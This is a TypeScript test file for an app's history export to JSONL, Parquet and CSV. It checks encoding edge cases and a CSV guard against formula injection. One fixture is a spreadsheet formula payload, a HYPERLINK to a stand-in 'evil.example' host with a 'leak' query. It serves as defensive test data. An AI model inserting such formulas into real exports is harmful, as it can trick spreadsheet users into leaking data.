import { afterEach, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { exportHistory } from '../../server/src/history/export/exportHistory';
import { exportColumns, toExportRow } from '../../server/src/history/export/exportRow';
import type { ExportValue } from '../../server/src/history/export/exportRow';
import type { HistoryRecord } from '../../server/src/protocol';
import { aSuggestion } from '../support/builders';
import { readCsv, readJsonlObjects, readParquetRows, readParquetSchema } from '../support/exportReaders';
import { aFullHistoryRecord, aHistoryRecord, streamOf } from '../support/historyRecords';

let dir = '';
beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'threadwise-export-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const TRICKY_REPLY = 'Line one, with a comma\nLine two with "quotes" and \'apostrophes\'\r\nCRLF; emoji 🎉 (a surrogate pair), CJK 漢字, RTL עברית,\ttab, line separator \u2028 here';
const LONG_PARAGRAPH = 'Ünïcödé paragraph with "quotes", commas, and\nnewlines 🎉. ';
const LONG_REPLY = LONG_PARAGRAPH.repeat(Math.ceil(50_000 / LONG_PARAGRAPH.length));
const FORMULA_REPLY = '=HYPERLINK("https://evil.example/?leak","click me")';

/** Records that exercise the encodings: nulls, unicode, separators in text, a 50 KB reply, formula-like text. */
function trickyRecords(): HistoryRecord[] {
  const base = aSuggestion();
  return [
    aHistoryRecord({
      id: 'tricky-1',
      modelSha256: null,
      thread: { title: 'Crash, "again" — on ünïcödé 📎', url: null, updatedAt: null },
      suggestion: {
        text: TRICKY_REPLY,
        chat: [{ role: 'system', text: 'System, with "quotes"\nand lines' }, { role: 'user', text: 'Ελληνικά \u2029 😀' }],
        timings: { ...base.timings, timeToFirstTokenMs: null, tokensPerSecond: 12.345678901234567 },
        safety: { ...base.safety, score: 0.1 + 0.2, unsafeScore: 1e-7 },
      },
    }),
    aFullHistoryRecord({ id: 'full-2' }),
    aHistoryRecord({ id: 'long-3', suggestion: { text: LONG_REPLY } }),
    aHistoryRecord({ id: 'formula-4', origin: '-cli', thread: { title: '@SUM(A1:A9)' }, suggestion: { text: FORMULA_REPLY } }),
  ];
}

describe('export round trips through an independent reader', () => {
  test('the 50 KB reply really is 50 KB of multi-byte text', () => {
    assert.ok(LONG_REPLY.length >= 50_000);
    assert.ok(Buffer.byteLength(LONG_REPLY) > 55_000);
  });

  test('JSONL: every line is the whole record, equal to the original; no raw U+2028/U+2029', async () => {
    const out = path.join(dir, 'history.jsonl');
    const records = trickyRecords();
    const result = await exportHistory(streamOf(records), { format: 'jsonl', out });
    const text = await readFile(out, 'utf8');
    assert.deepEqual(result, { exported: 4, rows: 4, bytes: Buffer.byteLength(text) });
    assert.ok(!/[\u2028\u2029]/.test(text));
    assert.equal(text.split('\n').length, 5, 'four lines, each ending in \\n');
    assert.deepEqual(await readJsonlObjects(out), records);
  });

  test('Parquet (read by parquet-wasm/arrow-rs): types, nullability and exact values', async () => {
    const out = path.join(dir, 'history.parquet');
    const records = trickyRecords();
    const result = await exportHistory(streamOf(records), { format: 'parquet', out });
    assert.equal(result.rows, 4);
    const schema = await readParquetSchema(out);
    assert.deepEqual(schema.map((field) => field.name), exportColumns.map((column) => column.name));
    const typeOf = (name: string) => schema.find((field) => field.name === name);
    assert.deepEqual(typeOf('id'), { name: 'id', type: 'Utf8', nullable: false });
    assert.deepEqual(typeOf('created_at'), { name: 'created_at', type: 'Timestamp<MILLISECOND, UTC>', nullable: false });
    assert.deepEqual(typeOf('thread_updated_at'), { name: 'thread_updated_at', type: 'Timestamp<MILLISECOND, UTC>', nullable: true });
    assert.deepEqual(typeOf('model_size_bytes'), { name: 'model_size_bytes', type: 'Int64', nullable: false });
    assert.deepEqual(typeOf('temperature'), { name: 'temperature', type: 'Float64', nullable: false });
    assert.deepEqual(typeOf('guardrail_unsafe'), { name: 'guardrail_unsafe', type: 'Bool', nullable: false });
    assert.deepEqual(typeOf('edit_distance'), { name: 'edit_distance', type: 'Int64', nullable: true });

    const rows = await readParquetRows(out);
    assert.deepEqual(rows, records.map((record) => toExportRow(record)));
    assert.equal(rows[0]!.reply, TRICKY_REPLY);
    assert.equal(rows[0]!.thread_url, null);
    assert.equal(rows[0]!.guardrail_score, 0.1 + 0.2);
    assert.equal(rows[0]!.tokens_per_second, 12.345678901234567);
    assert.equal(rows[1]!.model_size_bytes, 8_123_456_789);
    assert.equal(rows[1]!.outcome_at, '2024-01-15T12:00:00.000Z');
    assert.equal(rows[2]!.reply, LONG_REPLY);
    assert.equal(rows[3]!.reply, FORMULA_REPLY, 'Parquet cells are data, never guarded');
  });

  test('CSV (read by csv-parse): RFC 4180, no BOM, CRLF, nulls empty, booleans true/false, numbers exact', async () => {
    const out = path.join(dir, 'history.csv');
    const records = trickyRecords();
    const result = await exportHistory(streamOf(records), { format: 'csv', out });
    assert.equal(result.rows, 4);
    const raw = await readFile(out);
    assert.equal(raw.subarray(0, 3).toString('latin1'), 'id,', 'starts with the header, no byte order mark');
    assert.ok(raw.toString('utf8').startsWith(`${exportColumns.map((c) => c.name).join(',')}\r\n`));

    const { header, records: cells } = await readCsv(out);
    assert.deepEqual(header, exportColumns.map((column) => column.name));
    assert.equal(cells.length, 4);
    records.forEach((record, r) => {
      const row = toExportRow(record);
      exportColumns.forEach(({ name, type }, c) => {
        assert.equal(cells[r]![c], expectedCell(row[name], type), `${record.id} ${name}`);
      });
    });
    const column = (name: string) => exportColumns.findIndex((c) => c.name === name);
    assert.equal(cells[0]![column('reply')], TRICKY_REPLY);
    assert.equal(cells[0]![column('thread_title')], 'Crash, "again" — on ünïcödé 📎');
    assert.equal(cells[0]![column('thread_url')], '');
    assert.equal(cells[0]![column('time_to_first_token_ms')], '');
    assert.equal(Number(cells[0]![column('guardrail_score')]), 0.1 + 0.2);
    assert.equal(Number(cells[0]![column('guardrail_unsafe_score')]), 1e-7);
    assert.equal(cells[0]![column('guardrail_unsafe')], 'false');
    assert.equal(cells[1]![column('checks_passed')], 'true');
    assert.equal(cells[2]![column('reply')], LONG_REPLY);
  });

  test('CSV guards formula-like text with one leading apostrophe, reversibly, in text columns only', async () => {
    const out = path.join(dir, 'history.csv');
    const negative = aHistoryRecord({ id: 'quote-5', suggestion: { text: "'already quoted", sampling: { temperature: 0.7, seed: -5, maxTokens: 768, maxFixCycles: 2 } } });
    await exportHistory(streamOf([...trickyRecords(), negative]), { format: 'csv', out });
    const { records: cells } = await readCsv(out);
    const column = (name: string) => exportColumns.findIndex((c) => c.name === name);
    assert.equal(cells[3]![column('reply')], `'${FORMULA_REPLY}`);
    assert.equal(cells[3]![column('thread_title')], "'@SUM(A1:A9)");
    assert.equal(cells[3]![column('origin')], "'-cli");
    assert.equal(cells[4]![column('reply')], "''already quoted", 'a leading apostrophe is doubled so the rule stays reversible');
    assert.equal(cells[4]![column('seed')], '-5', 'numbers are never guarded');
    const unguard = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
    assert.equal(unguard(cells[3]![column('reply')]!), FORMULA_REPLY);
    assert.equal(unguard(cells[4]![column('reply')]!), "'already quoted");
    assert.equal(unguard(cells[0]![column('reply')]!), TRICKY_REPLY);
  });
});

/** The CSV cell the export documents for a value: the spec restated, not the exporter's code. */
function expectedCell(value: ExportValue, type: string): string {
  if (value === null) return '';
  if (typeof value !== 'string') return String(value);
  const text = type === 'string' || type === 'timestamp';
  return text && /^[=+\-@\t\r']/.test(value) ? `'${value}` : value;
}
